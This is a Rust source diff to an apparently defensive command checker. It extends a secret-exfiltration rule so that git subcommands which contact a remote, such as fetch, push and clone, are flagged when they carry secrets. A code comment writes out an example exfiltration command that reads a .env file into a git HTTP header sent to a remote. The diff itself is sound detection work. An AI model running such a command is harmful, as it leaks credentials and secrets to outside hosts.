@@ -1737,7 +1737,12 @@ impl Check for SecretExfiltration {
                 })
             {
                 let (reader, program) = (prog(r).unwrap_or("?"), prog(u).unwrap_or("?"));
-                if x.template.contains("://") {
+                // `git -c http.extraHeader="X: $(cat .env)" fetch URL`: git talking to a remote
+                // sends what its configuration and arguments carry (a CLI's own token in a header,
+                // `$(gh auth token)`, is how git signs in: it asks below).
+                if x.template.contains("://")
+                    || git_talks_to_remote(u) && prints_secret(r).is_none()
+                {
                     out.push(deny(
                         Some(i),
                         u.span,
@@ -2126,6 +2131,47 @@ fn transfer_upload(u: &Unit, p: &str) -> Option<String> {
         }
     }
     None
+}
+
+/// git run with a subcommand that talks to a remote (`fetch`, `push`, `clone`, `ls-remote`…),
+/// read after git's own options (`-C DIR`, `-c KEY=VALUE` and the others that take a value).
+fn git_talks_to_remote(u: &Unit) -> bool {
+    if prog(u) != Some("git") {
+        return false;
+    }
+    let mut value = false;
+    let sub = u.args().map(text).find(|w| {
+        if std::mem::take(&mut value) {
+            return false;
+        }
+        value = matches!(
+            *w,
+            "-C" | "-c"
+                | "--git-dir"
+                | "--work-tree"
+                | "--namespace"
+                | "--config-env"
+                | "--exec-path"
+                | "--super-prefix"
+        );
+        !w.starts_with('-')
+    });
+    matches!(
+        sub,
+        Some(
+            "fetch"
+                | "pull"
+                | "push"
+                | "clone"
+                | "ls-remote"
+                | "remote"
+                | "submodule"
+                | "send-email"
+                | "request-pull"
+                | "archive"
+                | "lfs"
+        )
+    )
 }
 
 /// A file the line writes with a secret in it: its path as written (quotes, a leading `./` and
